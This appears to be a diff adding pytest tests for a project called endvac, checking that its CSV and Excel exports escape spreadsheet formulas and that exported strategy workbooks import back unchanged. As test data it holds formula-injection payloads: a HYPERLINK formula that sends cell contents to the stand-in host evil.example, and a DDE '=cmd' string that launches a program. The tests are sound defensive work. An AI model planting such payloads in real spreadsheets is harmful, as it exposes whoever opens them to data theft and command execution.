@@ -1,0 +1,93 @@
+"""Issue 14, item 5: no CSV or workbook endvac writes carries a live formula, and an
+exported strategy workbook imports back unchanged."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import openpyxl
+import pytest
+from typer.testing import CliRunner
+
+from endvac.cli.main import app
+from endvac.cli.render import OutputFormat, render
+from endvac.strategy.files import export_strategy, import_strategy, stored_strategy
+from endvac.tabular import csv_text, safe_cell
+from endvac.web.restricted import AlertsView, alerts_csv
+from endvac.workspace import Workspace
+from test_strategy_checks import STRATEGY_YAML
+
+TITLE = "National Strategy to End Violence against Children 2024-2030"
+EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=1+2", "'=1+2"),  # OWASP: = + - @ tab and CR start a formula
+    ("+1", "'+1"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("a=1", "a=1"),  # only the first character counts
+    ("", ""),
+    (-5, -5),  # a number is never a formula
+    (None, None),
+])
+def test_safe_cell_follows_owasp(value: object, expected: object) -> None:
+    assert safe_cell(value) == expected
+
+
+def test_csv_text_escapes_and_quotes() -> None:
+    text = csv_text(["id", "note"], [["=cmd|'/C calc'!A0", "a,b"], ["F1", None]])
+    # the formula gets a leading quote; "a,b" is quoted by the CSV writer; None is empty
+    assert text == "id,note\n'=cmd|'/C calc'!A0,\"a,b\"\nF1,\n"
+
+
+def test_listing_csv_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
+    render([{"facility_id": "=cmd|'/C calc'!A0", "region": "@A1", "over": -3}],
+           OutputFormat.csv)
+    assert capsys.readouterr().out == "facility_id,region,over\n'=cmd|'/C calc'!A0,'@A1,-3\n"
+
+
+def test_alerts_export_is_escaped() -> None:
+    view = AlertsView.model_construct(alerts=[
+        {"rule": "R1", "facility_id": "+F1", "region": "-D1", "elapsed": 3.5}])
+    text, rows = alerts_csv(view)
+    lines = text.splitlines()
+    header = lines[0].split(",")
+    cells = dict(zip(header, lines[1].split(","), strict=True))
+    assert rows == 1
+    assert (cells["facility_id"], cells["region"], cells["elapsed"]) == ("'+F1", "'-D1", "3.5")
+
+
+def _strategy_with_title(ws: Workspace, tmp_path: Path, title: str) -> None:
+    source = tmp_path / "in.yaml"
+    source.write_text(STRATEGY_YAML.replace(TITLE, title.replace('"', '\\"').join('""')),
+                      encoding="utf-8")
+    assert import_strategy(ws, source).findings == []
+
+
+def test_strategy_workbook_holds_text_not_formulas_and_imports_back(
+        ws: Workspace, tmp_path: Path) -> None:
+    _strategy_with_title(ws, tmp_path, EVIL_TITLE)
+    before = stored_strategy(ws)
+    assert before.strategy.title == EVIL_TITLE
+    export_strategy(ws, tmp_path / "out.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
+    cells = [c for row in book["strategy"].iter_rows() for c in row]
+    title = next(c for c in cells if c.value == EVIL_TITLE)
+    assert title.data_type == "s"  # a string cell, not 'f' (formula)
+    assert not any(c.data_type == "f" for s in book.worksheets for r in s.iter_rows() for c in r)
+    # today's failure: "column title: Field required" (the formula had no cached value)
+    result = import_strategy(ws, tmp_path / "out.xlsx")
+    assert result.findings == []
+    assert stored_strategy(ws) == before
+
+
+def test_strategy_show_csv_is_escaped(ws: Workspace, tmp_path: Path) -> None:
+    _strategy_with_title(ws, tmp_path, "=1+2")
+    out = CliRunner().invoke(app, ["strategy", "show", str(ws.root), "--part", "strategy",
+                                   "--format", "csv"])
+    assert out.exit_code == 0, out.output
+    assert "'=1+2" in out.output
+    assert ",=1+2" not in out.output and not out.output.startswith("=")
